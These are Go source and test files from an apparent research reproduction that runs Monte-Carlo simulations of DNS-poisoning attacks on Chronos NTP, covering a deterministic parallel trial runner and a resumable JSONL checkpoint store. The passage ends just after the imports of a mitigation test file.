			t.Errorf("trial %d has index %d", i, tr.Index)
		}
	}
	// Consecutive indices are replicas of one point.
	if trials[0].Point != trials[1].Point || trials[0].Config.Seed == trials[1].Config.Seed {
		t.Errorf("replica layout broken: %+v / %+v", trials[0], trials[1])
	}
	if trials[1].Point == trials[2].Point {
		t.Errorf("points 1 and 2 should differ: %q", trials[1].Point)
	}
	points := Points(trials)
	if len(points) != 4 {
		t.Errorf("points = %v, want 4", points)
	}
	if want := "mechanism=defrag-injection poison-query=2"; points[0] != want {
		t.Errorf("point label = %q, want %q", points[0], want)
	}
}

// TestRunDeterminism is the core guarantee: the same grid aggregates to
// bit-identical summaries at -parallel 1 and -parallel 8, and the result
// slices match element-wise.
func TestRunDeterminism(t *testing.T) {
	trials := smallGrid().Trials()

	agg1, res1, err := MonteCarlo(context.Background(), trials, 1)
	if err != nil {
		t.Fatal(err)
	}
	agg8, res8, err := MonteCarlo(context.Background(), trials, 8)
	if err != nil {
		t.Fatal(err)
	}

	if len(res1) != len(trials) || len(res8) != len(trials) {
		t.Fatalf("result counts: %d / %d, want %d", len(res1), len(res8), len(trials))
	}
	for i := range res1 {
		if !reflect.DeepEqual(res1[i], res8[i]) {
			t.Errorf("trial %d: parallel-1 and parallel-8 results differ:\n%+v\n%+v", i, res1[i], res8[i])
		}
	}

	metrics1, metrics8 := agg1.Metrics(), agg8.Metrics()
	if !reflect.DeepEqual(metrics1, metrics8) {
		t.Fatalf("metric sets differ: %v vs %v", metrics1, metrics8)
	}
	for _, m := range metrics1 {
		s1, err := agg1.Describe(m)
		if err != nil {
			t.Fatal(err)
		}
		s8, err := agg8.Describe(m)
		if err != nil {
			t.Fatal(err)
		}
		if s1 != s8 {
			t.Errorf("%s: aggregate differs across parallelism: %+v vs %+v", m, s1, s8)
		}
	}

	// Sanity: the attacked trials actually measured an attack.
	frac, err := agg1.Describe(MetricAttackerFraction)
	if err != nil {
		t.Fatal(err)
	}
	if frac.Max <= 0 {
		t.Errorf("no trial measured a nonzero attacker fraction: %+v", frac)
	}
}

// TestRunCancellation injects a failing trial and asserts the pool aborts
// early: the error surfaces and later trials never start.
func TestRunCancellation(t *testing.T) {
	boom := errors.New("boom")
	const n = 64
	trials := make([]Trial, n)
	for i := range trials {
		trials[i] = Trial{Index: i, Point: "stub"}
	}
	var started atomic.Int64
	_, err := Run(context.Background(), trials, Options{
		Parallel: 2,
		Execute: func(tr Trial) (*core.Result, error) {
			started.Add(1)
			if tr.Index == 3 {
				return nil, boom
			}
			time.Sleep(time.Millisecond)
			return &core.Result{}, nil
		},
	})
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v, want wrapped boom", err)
	}
	if !strings.Contains(err.Error(), "trial 3") {
		t.Errorf("error does not identify the trial: %v", err)
	}
	if got := started.Load(); got >= n {
		t.Errorf("all %d trials ran despite the early failure", got)
	}
}

// TestRunExternalCancel covers a caller-driven abort.
func TestRunExternalCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	trials := make([]Trial, 32)
	for i := range trials {
		trials[i] = Trial{Index: i, Point: "stub"}
	}
	var once sync.Once
	_, err := Run(ctx, trials, Options{
		Parallel: 2,
		Execute: func(Trial) (*core.Result, error) {
			once.Do(cancel)
			return &core.Result{}, nil
		},
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

// TestRunStreamsInOrderIndependentWay asserts the OnResult stream, fed
// into an aggregator keyed by trial index, reduces identically however the
// workers interleave.
func TestRunStreamsResults(t *testing.T) {
	trials := make([]Trial, 16)
	for i := range trials {
		trials[i] = Trial{Index: i, Point: "stub"}
	}
	exec := func(tr Trial) (*core.Result, error) {
		return &core.Result{AttackerFraction: float64(tr.Index)}, nil
	}
	agg := stats.NewAggregator()
	_, err := Run(context.Background(), trials, Options{
		Parallel: 8,
		Execute:  exec,
		OnResult: func(tr Trial, res *core.Result) {
			agg.Observe(MetricAttackerFraction, tr.Index, res.AttackerFraction)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	vals := agg.Values(MetricAttackerFraction)
	if len(vals) != len(trials) {
		t.Fatalf("streamed %d values, want %d", len(vals), len(trials))
	}
	for i, v := range vals {
		if v != float64(i) {
			t.Errorf("index-sorted value %d = %v", i, v)
		}
	}
}

func TestForEach(t *testing.T) {
	var hits atomic.Int64
	if err := ForEach(context.Background(), 20, 4, func(i int) error {
		hits.Add(1)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if hits.Load() != 20 {
		t.Errorf("hits = %d, want 20", hits.Load())
	}
	boom := errors.New("boom")
	err := ForEach(context.Background(), 20, 4, func(i int) error {
		if i == 5 {
			return boom
		}
		return nil
	})
	if !errors.Is(err, boom) {
		t.Errorf("err = %v, want boom", err)
	}
}
