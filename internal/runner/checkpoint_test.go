package runner

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestFingerprintStable pins the fingerprint contract: identical configs
// collide, different configs don't, and parallelism is simply not part of
// the fingerprinted struct by convention.
func TestFingerprintStable(t *testing.T) {
	type cfg struct {
		Seed   int64
		Trials int
	}
	a := Fingerprint(cfg{Seed: 1, Trials: 4})
	b := Fingerprint(cfg{Seed: 1, Trials: 4})
	c := Fingerprint(cfg{Seed: 2, Trials: 4})
	if a != b {
		t.Errorf("identical configs fingerprint differently: %s vs %s", a, b)
	}
	if a == c {
		t.Errorf("different configs collide: %s", a)
	}
	if len(a) != 64 {
		t.Errorf("fingerprint is not a sha256 hex digest: %q", a)
	}
}

// TestCheckpointRoundTrip: create, complete a few tasks, resume, and read
// the restored entries back.
func TestCheckpointRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	fp := Fingerprint("round-trip")
	c, err := CreateCheckpoint(path, fp, 5, "round trip")
	if err != nil {
		t.Fatal(err)
	}
	for _, i := range []int{0, 3, 2} {
		if err := c.Complete(i, map[string]int{"value": i * 10}); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}

	r, err := ResumeCheckpoint(path, fp, 5)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if r.RestoredCount() != 3 {
		t.Fatalf("restored %d entries, want 3", r.RestoredCount())
	}
	for _, i := range []int{0, 2, 3} {
		raw, ok := r.Restored(i)
		if !ok {
			t.Fatalf("task %d missing from resumed checkpoint", i)
		}
		var v struct {
			Value int `json:"value"`
		}
		if err := json.Unmarshal(raw, &v); err != nil {
			t.Fatal(err)
		}
		if v.Value != i*10 {
			t.Errorf("task %d restored value %d, want %d", i, v.Value, i*10)
		}
	}
	if _, ok := r.Restored(1); ok {
		t.Error("task 1 was never completed but reports as restored")
	}
}

// TestCreateCheckpointRejectsNonPositiveTotal: a zero-task checkpoint is a
// caller bug, not a file to create.
func TestCreateCheckpointRejectsNonPositiveTotal(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	for _, total := range []int{0, -3} {
		if _, err := CreateCheckpoint(path, "fp", total, ""); err == nil {
			t.Errorf("CreateCheckpoint accepted total=%d", total)
		}
	}
}

// TestResumeCorruptionHandling: every malformed file yields a clear error,
// never a panic or a silent skip — except the one sanctioned artifact, a
// partial trailing line without a final newline (a mid-write kill).
func TestResumeCorruptionHandling(t *testing.T) {
	fp := Fingerprint("corruption")
	header := fmt.Sprintf(`{"schema":%q,"fingerprint":%q,"total":4}`, CheckpointSchema, fp)
	entry := func(i int) string {
		return fmt.Sprintf(`{"index":%d,"result":{"v":%d}}`, i, i)
	}

	cases := []struct {
		name    string
		content string
		wantErr string // substring; "" means resume must succeed
		want    int    // restored count on success
	}{
		{
			name:    "missing file",
			content: "", // special-cased below: file not created at all
			wantErr: "no such file",
		},
		{
			name:    "empty file",
			content: "",
			wantErr: "truncated header",
		},
		{
			name:    "header without newline",
			content: header,
			wantErr: "truncated header",
		},
		{
			name:    "garbage header",
			content: "not json at all\n",
			wantErr: "corrupt header",
		},
		{
			name:    "foreign schema",
			content: `{"schema":"other/v9","fingerprint":"x","total":4}` + "\n",
			wantErr: "unsupported schema",
		},
		{
			name: "fingerprint mismatch",
			content: fmt.Sprintf(`{"schema":%q,"fingerprint":"deadbeefdeadbeef","total":4}`,
				CheckpointSchema) + "\n",
			wantErr: "different run configuration",
		},
		{
			name: "total mismatch",
			content: fmt.Sprintf(`{"schema":%q,"fingerprint":%q,"total":9}`,
				CheckpointSchema, fp) + "\n",
			wantErr: "holds 9 tasks",
		},
		{
			name:    "newline-terminated garbage entry",
			content: header + "\n" + entry(0) + "\n" + "garbage{{{\n",
			wantErr: "corrupt entry after 1 restored tasks",
		},
		{
			name:    "entry index out of range",
			content: header + "\n" + entry(0) + "\n" + `{"index":44,"result":{}}` + "\n",
			wantErr: "out of range",
		},
		{
			name:    "negative entry index",
			content: header + "\n" + `{"index":-1,"result":{}}` + "\n",
			wantErr: "out of range",
		},
		{
			name:    "partial trailing line dropped",
			content: header + "\n" + entry(0) + "\n" + entry(1) + "\n" + `{"index":2,"resul`,
			want:    2,
		},
		{
			name:    "clean file",
			content: header + "\n" + entry(0) + "\n" + entry(1) + "\n" + entry(2) + "\n",
			want:    3,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "ckpt.json")
			if tc.name != "missing file" {
				writeFile(t, path, tc.content)
			}
			c, err := ResumeCheckpoint(path, fp, 4)
			if tc.wantErr != "" {
				if err == nil {
					c.Close()
					t.Fatalf("resume of %s succeeded, want error containing %q", tc.name, tc.wantErr)
				}
				if !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("error %q does not mention %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			if c.RestoredCount() != tc.want {
				t.Errorf("restored %d entries, want %d", c.RestoredCount(), tc.want)
			}
		})
	}
}

// TestResumeTruncatesKillArtifact: after resuming past a partial trailing
// line, new appends must land on a fresh line — the artifact is physically
// truncated, not just skipped in memory.
func TestResumeTruncatesKillArtifact(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	fp := Fingerprint("truncate")
	header := fmt.Sprintf(`{"schema":%q,"fingerprint":%q,"total":3}`, CheckpointSchema, fp)
	writeFile(t, path, header+"\n"+`{"index":0,"result":1}`+"\n"+`{"index":1,"res`)

	c, err := ResumeCheckpoint(path, fp, 3)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Complete(1, 2); err != nil {
		t.Fatal(err)
	}
	if err := c.Complete(2, 3); err != nil {
		t.Fatal(err)
	}
	c.Close()

	// The file must now be fully resumable with all three entries intact.
	r, err := ResumeCheckpoint(path, fp, 3)
	if err != nil {
		t.Fatalf("file corrupted by post-resume appends: %v", err)
	}
	defer r.Close()
	if r.RestoredCount() != 3 {
		t.Errorf("restored %d entries after rewrite, want 3", r.RestoredCount())
	}
}

// TestCompleteRejectsOutOfRange: the writer validates indices too.
func TestCompleteRejectsOutOfRange(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	c, err := CreateCheckpoint(path, "fp", 2, "")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	for _, i := range []int{-1, 2, 99} {
		if err := c.Complete(i, "x"); err == nil {
			t.Errorf("Complete(%d) accepted an out-of-range index", i)
		}
	}
}

// TestForEachCheckpointedSkipsRestored: restored tasks are replayed through
// restore and never re-executed; fresh tasks run exactly once and are
// persisted.
func TestForEachCheckpointedSkipsRestored(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	fp := Fingerprint("skip")
	c, err := CreateCheckpoint(path, fp, 6, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, i := range []int{0, 2, 4} {
		if err := c.Complete(i, i*100); err != nil {
			t.Fatal(err)
		}
	}
	c.Close()

	r, err := ResumeCheckpoint(path, fp, 6)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()

	var executions, replays atomic.Int64
	got := make([]int, 6)
	err = ForEachCheckpointed(context.Background(), 6, 3, r,
		func(i int, raw json.RawMessage) error {
			replays.Add(1)
			return json.Unmarshal(raw, &got[i])
		},
		func(i int) (interface{}, error) {
			executions.Add(1)
			got[i] = i * 100
			return i * 100, nil
		})
	if err != nil {
		t.Fatal(err)
	}
	if replays.Load() != 3 {
		t.Errorf("replayed %d restored tasks, want 3", replays.Load())
	}
	if executions.Load() != 3 {
		t.Errorf("executed %d fresh tasks, want 3 (restored tasks must not re-run)", executions.Load())
	}
	for i, v := range got {
		if v != i*100 {
			t.Errorf("task %d value %d, want %d", i, v, i*100)
		}
	}

	// Second resume: everything is now restored, nothing executes.
	r2, err := ResumeCheckpoint(path, fp, 6)
	if err != nil {
		t.Fatal(err)
	}
	defer r2.Close()
	if r2.RestoredCount() != 6 {
		t.Fatalf("restored %d entries, want 6", r2.RestoredCount())
	}
	executions.Store(0)
	err = ForEachCheckpointed(context.Background(), 6, 3, r2,
		func(i int, raw json.RawMessage) error { return nil },
		func(i int) (interface{}, error) {
			executions.Add(1)
			return nil, nil
		})
	if err != nil {
		t.Fatal(err)
	}
	if executions.Load() != 0 {
		t.Errorf("complete checkpoint still executed %d tasks", executions.Load())
	}
}

// TestForEachCheckpointedTotalMismatch: a checkpoint sized for a different
// task count is rejected before any work runs.
func TestForEachCheckpointedTotalMismatch(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.json")
	c, err := CreateCheckpoint(path, "fp", 4, "")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	err = ForEachCheckpointed(context.Background(), 7, 1, c,
		func(i int, raw json.RawMessage) error { return nil },
		func(i int) (interface{}, error) { return nil, nil })
	if err == nil || !strings.Contains(err.Error(), "holds 4 tasks") {
		t.Fatalf("total mismatch not rejected: %v", err)
	}
}

// TestForEachCheckpointedNilDegradesToForEach: a nil checkpoint runs all
// tasks with no persistence.
func TestForEachCheckpointedNilDegradesToForEach(t *testing.T) {
	var executions atomic.Int64
	err := ForEachCheckpointed(context.Background(), 5, 2, nil,
		func(i int, raw json.RawMessage) error {
			t.Error("restore called with nil checkpoint")
			return nil
		},
		func(i int) (interface{}, error) {
			executions.Add(1)
			return nil, nil
		})
	if err != nil {
		t.Fatal(err)
	}
	if executions.Load() != 5 {
		t.Errorf("executed %d tasks, want 5", executions.Load())
	}
}
