// Package runner is the Monte-Carlo engine of the reproduction: it fans a
// grid of core.Configs (seeds × mechanisms × poison-query indices ×
// mitigation toggles) across a worker pool and streams the per-trial
// core.Results into a stats.Aggregator.
//
// Every simulation is deterministic given its seed, and the aggregation is
// an order-independent reduction keyed by trial index, so the aggregate of
// a grid is bit-identical at any parallelism level — `-parallel 1` and
// `-parallel 8` produce the same bytes.
//
// Long runs can persist progress through a Checkpoint (checkpoint.go): an
// append-only JSONL file holding one fsynced line per completed trial.
// Options.Checkpoint threads one through Run, and ForEachCheckpointed
// wraps the plain ForEach pool for callers with their own task loop (the
// E10 shift study). On resume the restored trials are replayed into the
// same per-index slots a live run fills, so — by the same
// order-independence argument — a killed-and-resumed run produces output
// bit-identical to an uninterrupted one. A partial trailing line (the
// artifact of a kill mid-append) is detected and truncated away; any
// other malformed content, a fingerprint mismatch, or a task-count
// mismatch is a hard error rather than a silent skip.
package runner

import (
	"context"
	"encoding/json"
	"fmt"
	"runtime"
	"sync"

	"chronosntp/internal/core"
	"chronosntp/internal/stats"
)

// Trial is one grid point instantiation: a fully resolved core.Config plus
// the index that keys the order-independent reduction.
type Trial struct {
	Index  int         // position in the grid expansion; reduction key
	Point  string      // grid-point label shared by all seeds of the point
	Config core.Config // fully resolved scenario configuration
}

// Metric names under which Feed records a core.Result.
const (
	MetricAttackerFraction   = "attacker-fraction"
	MetricPoolBenign         = "pool-benign"
	MetricPoolMalicious      = "pool-malicious"
	MetricPoolSize           = "pool-size"
	MetricPoisonPlanted      = "poison-planted"
	MetricChronosOffsetNs    = "chronos-offset-ns"
	MetricChronosMaxOffsetNs = "chronos-max-offset-ns"
	MetricPlainOffsetNs      = "plain-offset-ns"
)

// QueryMetric names the per-query pool-fraction series ("query-12/fraction"
// etc.), the Figure-1 curve aggregated across trials.
func QueryMetric(query int, field string) string {
	return fmt.Sprintf("query-%02d/%s", query, field)
}

// Feed records every scalar measurement of res (and the per-query
// Figure-1 series) into agg under t.Index.
func Feed(agg *stats.Aggregator, t Trial, res *core.Result) {
	agg.Observe(MetricAttackerFraction, t.Index, res.AttackerFraction)
	agg.Observe(MetricPoolBenign, t.Index, float64(res.PoolBenign))
	agg.Observe(MetricPoolMalicious, t.Index, float64(res.PoolMalicious))
	agg.Observe(MetricPoolSize, t.Index, float64(res.PoolSize))
	planted := 0.0
	if res.PoisonPlanted {
		planted = 1
	}
	agg.Observe(MetricPoisonPlanted, t.Index, planted)
	agg.Observe(MetricChronosOffsetNs, t.Index, float64(res.ChronosOffset))
	agg.Observe(MetricChronosMaxOffsetNs, t.Index, float64(res.ChronosMaxOffset))
	agg.Observe(MetricPlainOffsetNs, t.Index, float64(res.PlainOffset))
	for _, q := range res.PerQuery {
		agg.Observe(QueryMetric(q.Query, "benign"), t.Index, float64(q.Benign))
		agg.Observe(QueryMetric(q.Query, "malicious"), t.Index, float64(q.Malicious))
		agg.Observe(QueryMetric(q.Query, "fraction"), t.Index, q.Fraction())
	}
}

// Options tunes a Run.
type Options struct {
	// Parallel is the worker count; ≤0 means GOMAXPROCS.
	Parallel int
	// Execute runs one trial. Nil means the default scenario executor
	// (core.NewScenario + Run); tests substitute stubs.
	Execute func(Trial) (*core.Result, error)
	// OnResult, if non-nil, streams each successful trial as it completes.
	// Calls are serialized but arrive in completion order, not index order
	// — pair it with a stats.Aggregator (keyed by Trial.Index) for
	// order-independent reduction.
	OnResult func(Trial, *core.Result)
	// Checkpoint, if non-nil, persists every completed trial's core.Result
	// keyed by Trial.Index and skips (restoring instead) the trials the
	// checkpoint already holds. Restored trials still flow through
	// OnResult, so aggregates of a resumed run match an uninterrupted one
	// bit for bit.
	Checkpoint *Checkpoint
}

// ExecuteScenario is the default trial executor: wire the scenario and run
// it.
func ExecuteScenario(t Trial) (*core.Result, error) {
	s, err := core.NewScenario(t.Config)
	if err != nil {
		return nil, err
	}
	return s.Run()
}

// Run executes every trial across the worker pool and returns the results
// in trial order (results[i] belongs to trials[i]).
//
// On the first trial error the remaining trials are cancelled — workers
// finish their in-flight trial and stop — and Run reports the failed
// trial's error (the lowest-index failure observed, for determinism). If
// ctx is cancelled externally, Run returns ctx.Err().
func Run(ctx context.Context, trials []Trial, opts Options) ([]*core.Result, error) {
	parallel := opts.Parallel
	if parallel <= 0 {
		parallel = runtime.GOMAXPROCS(0)
	}
	if parallel > len(trials) {
		parallel = len(trials)
	}
	execute := opts.Execute
	if execute == nil {
		execute = ExecuteScenario
	}
	if len(trials) == 0 {
		return nil, nil
	}

	ctx, cancel := context.WithCancel(ctx)
	defer cancel()

	results := make([]*core.Result, len(trials))
	restored := make([]bool, len(trials))
	if opts.Checkpoint != nil {
		if opts.Checkpoint.Total() != len(trials) {
			return nil, fmt.Errorf("runner: checkpoint holds %d trials, run has %d", opts.Checkpoint.Total(), len(trials))
		}
		for pos, t := range trials {
			raw, ok := opts.Checkpoint.Restored(t.Index)
			if !ok {
				continue
			}
			var res core.Result
			if err := json.Unmarshal(raw, &res); err != nil {
				return nil, fmt.Errorf("runner: restoring trial %d (%s): %w", t.Index, t.Point, err)
			}
			results[pos] = &res
			restored[pos] = true
			if opts.OnResult != nil {
				opts.OnResult(t, &res)
			}
		}
	}
	var (
		mu       sync.Mutex
		firstErr error
		errPos   int
	)
	fail := func(pos int, err error) {
		mu.Lock()
		if firstErr == nil || pos < errPos {
			firstErr, errPos = err, pos
		}
		mu.Unlock()
		cancel()
	}

	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < parallel; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for pos := range jobs {
				t := trials[pos]
				res, err := execute(t)
				if err != nil {
					fail(pos, fmt.Errorf("runner: trial %d (%s): %w", t.Index, t.Point, err))
					continue
				}
				results[pos] = res
				if opts.Checkpoint != nil {
					if err := opts.Checkpoint.Complete(t.Index, res); err != nil {
						fail(pos, err)
						continue
					}
				}
				if opts.OnResult != nil {
					mu.Lock()
					opts.OnResult(t, res)
					mu.Unlock()
				}
			}
		}()
	}

feed:
	for pos := range trials {
		if restored[pos] {
			continue
		}
		select {
		case jobs <- pos:
		case <-ctx.Done():
			break feed
		}
	}
	close(jobs)
	wg.Wait()

	mu.Lock()
	err := firstErr
	mu.Unlock()
	if err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return results, nil
}

// MonteCarlo runs the trials and streams every result into a fresh
// aggregator via Feed. The returned results are in trial order; the
// aggregator's reductions are bit-identical at any parallelism.
func MonteCarlo(ctx context.Context, trials []Trial, parallel int) (*stats.Aggregator, []*core.Result, error) {
	agg := stats.NewAggregator()
	results, err := Run(ctx, trials, Options{
		Parallel: parallel,
		OnResult: func(t Trial, res *core.Result) { Feed(agg, t, res) },
	})
	if err != nil {
		return nil, nil, err
	}
	return agg, results, nil
}

// ForEach runs fn(i) for every i in [0, n) across the worker pool,
// cancelling the remaining indices on the first error (lowest-index error
// wins, as in Run). It is the scheduling core reused by experiment code
// whose trials are not core.Configs (e.g. the E5 probe populations).
func ForEach(ctx context.Context, n, parallel int, fn func(i int) error) error {
	trials := make([]Trial, n)
	for i := range trials {
		trials[i] = Trial{Index: i, Point: fmt.Sprintf("foreach-%d", i)}
	}
	_, err := Run(ctx, trials, Options{
		Parallel: parallel,
		Execute: func(t Trial) (*core.Result, error) {
			if err := fn(t.Index); err != nil {
				return nil, err
			}
			return &core.Result{}, nil
		},
	})
	return err
}
