package runner

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"sync"
)

// CheckpointSchema versions the checkpoint file format. A file carrying a
// different schema string is rejected on resume.
const CheckpointSchema = "chronosntp/checkpoint/v1"

// The checkpoint file is JSONL: a header line followed by one line per
// completed task. Appends are newline-terminated and fsynced, so a killed
// run leaves at most one partial trailing line — which resume drops (it
// is the kill artifact) — while any *newline-terminated* garbage is
// treated as corruption and reported, never skipped silently.
//
//	{"schema":"chronosntp/checkpoint/v1","fingerprint":"…","total":64,"description":"E10 …"}
//	{"index":0,"result":{…}}
//	{"index":3,"result":{…}}
//
// Tasks may complete (and be recorded) in any completion order; the
// reduction downstream is keyed by task index, so a resumed run is
// bit-identical to an uninterrupted one.

// checkpointHeader is the first line of a checkpoint file.
type checkpointHeader struct {
	Schema      string `json:"schema"`
	Fingerprint string `json:"fingerprint"`
	Total       int    `json:"total"`
	Description string `json:"description,omitempty"`
}

// checkpointEntry is one completed task's line.
type checkpointEntry struct {
	Index  int             `json:"index"`
	Result json.RawMessage `json:"result"`
}

// Checkpoint is an append-only store of completed task results, safe for
// concurrent Complete calls from the worker pool.
type Checkpoint struct {
	mu       sync.Mutex
	f        *os.File
	path     string
	header   checkpointHeader
	restored map[int]json.RawMessage
}

// Fingerprint canonically fingerprints a run configuration: the SHA-256 of
// its JSON form. Embed every parameter that changes the computed results
// (seed, grid axes, trial count) and exclude those that don't (parallelism,
// output paths).
func Fingerprint(v interface{}) string {
	b, err := json.Marshal(v)
	if err != nil {
		// Unmarshalable configs cannot collide with real fingerprints.
		return "unfingerprintable"
	}
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// CreateCheckpoint starts a fresh checkpoint file at path (truncating any
// existing file), stamped with the run's fingerprint and total task count.
func CreateCheckpoint(path, fingerprint string, total int, description string) (*Checkpoint, error) {
	if total <= 0 {
		return nil, fmt.Errorf("runner: checkpoint needs a positive task total, got %d", total)
	}
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return nil, fmt.Errorf("runner: creating checkpoint: %w", err)
	}
	c := &Checkpoint{
		f:    f,
		path: path,
		header: checkpointHeader{
			Schema:      CheckpointSchema,
			Fingerprint: fingerprint,
			Total:       total,
			Description: description,
		},
		restored: make(map[int]json.RawMessage),
	}
	line, err := json.Marshal(c.header)
	if err != nil {
		f.Close()
		return nil, err
	}
	if err := c.append(line); err != nil {
		f.Close()
		return nil, fmt.Errorf("runner: writing checkpoint header: %w", err)
	}
	return c, nil
}

// ResumeCheckpoint opens an existing checkpoint file, validates its header
// against the expected fingerprint and task total, and loads every
// newline-terminated entry. A partial trailing line without a final
// newline — what a mid-write kill leaves behind — is discarded (and
// truncated away so later appends stay well-formed); any other malformed
// content is an error, never a silent skip.
func ResumeCheckpoint(path, fingerprint string, total int) (*Checkpoint, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("runner: resuming checkpoint: %w", err)
	}
	headerLine, rest, found := bytes.Cut(data, []byte("\n"))
	if !found {
		return nil, fmt.Errorf("runner: checkpoint %s: truncated header (no complete first line)", path)
	}
	var h checkpointHeader
	if err := json.Unmarshal(headerLine, &h); err != nil {
		return nil, fmt.Errorf("runner: checkpoint %s: corrupt header: %w", path, err)
	}
	if h.Schema != CheckpointSchema {
		return nil, fmt.Errorf("runner: checkpoint %s: unsupported schema %q (want %q)", path, h.Schema, CheckpointSchema)
	}
	if h.Fingerprint != fingerprint {
		return nil, fmt.Errorf("runner: checkpoint %s was written by a different run configuration (fingerprint %s…, want %s…) — rerun with the original flags or start a fresh -checkpoint",
			path, shortFP(h.Fingerprint), shortFP(fingerprint))
	}
	if h.Total != total {
		return nil, fmt.Errorf("runner: checkpoint %s holds %d tasks, this run has %d", path, h.Total, total)
	}

	restored := make(map[int]json.RawMessage)
	validLen := len(headerLine) + 1
	for len(rest) > 0 {
		line, tail, terminated := bytes.Cut(rest, []byte("\n"))
		if !terminated {
			// Partial trailing line: the kill artifact. Drop it.
			break
		}
		var e checkpointEntry
		if err := json.Unmarshal(line, &e); err != nil {
			return nil, fmt.Errorf("runner: checkpoint %s: corrupt entry after %d restored tasks: %w", path, len(restored), err)
		}
		if e.Index < 0 || e.Index >= h.Total {
			return nil, fmt.Errorf("runner: checkpoint %s: entry index %d out of range [0,%d)", path, e.Index, h.Total)
		}
		restored[e.Index] = e.Result
		validLen += len(line) + 1
		rest = tail
	}

	f, err := os.OpenFile(path, os.O_RDWR, 0o644)
	if err != nil {
		return nil, fmt.Errorf("runner: reopening checkpoint: %w", err)
	}
	// Truncate the kill artifact (if any) so appends start on a fresh line.
	if err := f.Truncate(int64(validLen)); err != nil {
		f.Close()
		return nil, fmt.Errorf("runner: trimming checkpoint: %w", err)
	}
	if _, err := f.Seek(int64(validLen), 0); err != nil {
		f.Close()
		return nil, err
	}
	return &Checkpoint{f: f, path: path, header: h, restored: restored}, nil
}

// shortFP abbreviates a fingerprint for error messages.
func shortFP(fp string) string {
	if len(fp) > 12 {
		return fp[:12]
	}
	return fp
}

// Total is the task count the checkpoint was created for.
func (c *Checkpoint) Total() int { return c.header.Total }

// Restored returns the stored result of task i, if the checkpoint holds
// one.
func (c *Checkpoint) Restored(i int) (json.RawMessage, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	raw, ok := c.restored[i]
	return raw, ok
}

// RestoredCount is the number of tasks loaded from the file on resume.
func (c *Checkpoint) RestoredCount() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.restored)
}

// Complete persists task i's result. The entry is newline-terminated and
// fsynced before Complete returns, so a kill at any instant loses at most
// the in-flight entry.
func (c *Checkpoint) Complete(i int, v interface{}) error {
	if i < 0 || i >= c.header.Total {
		return fmt.Errorf("runner: checkpoint task index %d out of range [0,%d)", i, c.header.Total)
	}
	raw, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("runner: checkpointing task %d: %w", i, err)
	}
	line, err := json.Marshal(checkpointEntry{Index: i, Result: raw})
	if err != nil {
		return err
	}
	return c.append(line)
}

// append writes one newline-terminated line and syncs.
func (c *Checkpoint) append(line []byte) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, err := c.f.Write(append(line, '\n')); err != nil {
		return err
	}
	return c.f.Sync()
}

// Close releases the underlying file.
func (c *Checkpoint) Close() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.f.Close()
}

// ForEachCheckpointed is ForEach with persistence: restored tasks are
// replayed through restore (in index order, before any new work runs) and
// skipped by the pool; every newly completed task's value is appended to
// the checkpoint. A nil ckpt degrades to plain ForEach. Because the
// reduction downstream is keyed by task index, the aggregate of a resumed
// run is bit-identical to an uninterrupted one.
func ForEachCheckpointed(ctx context.Context, n, parallel int, ckpt *Checkpoint,
	restore func(i int, raw json.RawMessage) error, fn func(i int) (interface{}, error)) error {
	if ckpt == nil {
		return ForEach(ctx, n, parallel, func(i int) error {
			_, err := fn(i)
			return err
		})
	}
	if ckpt.Total() != n {
		return fmt.Errorf("runner: checkpoint holds %d tasks, run has %d", ckpt.Total(), n)
	}
	for i := 0; i < n; i++ {
		if raw, ok := ckpt.Restored(i); ok {
			if err := restore(i, raw); err != nil {
				return err
			}
		}
	}
	return ForEach(ctx, n, parallel, func(i int) error {
		if _, ok := ckpt.Restored(i); ok {
			return nil
		}
		v, err := fn(i)
		if err != nil {
			return err
		}
		return ckpt.Complete(i, v)
	})
}
