package mitigation

import (
	"testing"
	"time"

	"chronosntp/internal/attack"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnsserver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

var (
